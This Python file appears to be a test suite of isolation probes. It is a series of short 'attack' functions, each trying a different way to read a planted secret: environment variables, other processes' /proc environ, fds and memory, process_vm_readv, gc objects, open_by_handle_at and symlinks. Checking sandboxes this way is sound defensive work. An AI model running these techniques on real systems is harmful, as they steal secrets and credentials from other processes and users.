# === variable of the environment
import os
def attack(): return next((value for value in os.environ.values() if value.startswith(WORLD["prefix"])), None)
# === variable of the parent's environment
import glob
def attack():
    for path in glob.glob("/proc/[0-9]*/environ"):
        try: text = open(path, "rb").read()
        except OSError: continue
        for part in text.split(b"\0"):
            _, _, value = part.partition(b"=")
            if value.startswith(WORLD["prefix"].encode()): return value.decode()
# === file in the home folder
import os
def attack(): return open(WORLD["home"]).read()
# === file in the project
def attack(): return open(WORLD["project"]).read()
# === file in /tmp
def attack(): return open(WORLD["tmp"]).read()
# === file by the parent's root
import glob
def attack():
    for path in glob.glob("/proc/[0-9]*/root"):
        try: return open(path + WORLD["tmp"]).read()
        except OSError: pass
# === file by the parent's folder
import glob, os
def attack():
    for path in glob.glob("/proc/[0-9]*/cwd"):
        try: return open(path + "/" + os.path.relpath(WORLD["tmp"], WORLD["folder"])).read()
        except OSError: pass
# === inherited descriptor
import os
def attack():
    for fd in range(3, 256):
        try: text = os.pread(fd, 4096, 0).decode()
        except (OSError, ValueError): continue
        if text.startswith(WORLD["prefix"]): return text
# === descriptor of another process
import glob
def attack():
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if WORLD["name"] in __import__("os").readlink(path): return open(path).read()
        except OSError: continue
# === memory of the parent
import os, re
def attack():
    for pid in (os.getppid(), 1, WORLD["pid"]):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    if "rw" not in line: continue
                    low, high = [int(end, 16) for end in line.split()[0].split("-")]
                    if high - low > 1 << 27: continue
                    memory.seek(low)
                    try: found = re.search(WORLD["prefix"].encode() + rb"[0-9a-f]{32}", memory.read(high - low))
                    except OSError: continue
                    if found: return found[0].decode()
        except OSError: continue
# === memory of the parent by process_vm_readv
import ctypes, os, re
class Piece(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
def attack():
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), 1, WORLD["pid"]):
        try: maps = open(f"/proc/{pid}/maps").readlines()
        except OSError: continue
        for line in maps:
            if "rw" not in line: continue
            low, high = [int(end, 16) for end in line.split()[0].split("-")]
            if high - low > 1 << 27: continue
            room = ctypes.create_string_buffer(high - low)
            here, there = Piece(ctypes.addressof(room), high - low), Piece(low, high - low)
            if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                found = re.search(WORLD["prefix"].encode() + rb"[0-9a-f]{32}", room.raw)
                if found: return found[0].decode()
# === memory of this process
import ctypes, re
def attack():
    for line in open("/proc/self/maps").readlines():
        ends, rights, *_, name = line.split()
        low, high = [int(end, 16) for end in ends.split("-")]
        if rights[:2] == "rw" and not name.startswith("[v") and high - low < 1 << 28:
            found = re.search(WORLD["prefix"].encode() + rb"[0-9a-f]{32}", ctypes.string_at(low, high - low))
            if found: return found[0].decode()
# === objects of this process
import gc
def attack():
    for thing in gc.get_objects():
        values = thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()
        for value in list(values):
            if type(value) is str and value.startswith(WORLD["prefix"]) and len(value) > len(WORLD["prefix"]): return value
# === file by its handle
import ctypes, os
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    class Handle(ctypes.Structure): _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_char * 128)]
    handle, mount = Handle(8, 1, (WORLD["inode"]).to_bytes(4, "little") + bytes(4)), os.open("/usr", os.O_RDONLY)
    fd = libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY)
    if fd >= 0: return os.read(fd, 4096).decode()
# === file by a symbolic link that outlives the program
import os
def attack():
    os.symlink(WORLD["tmp"], "link")
    return open("link").read()
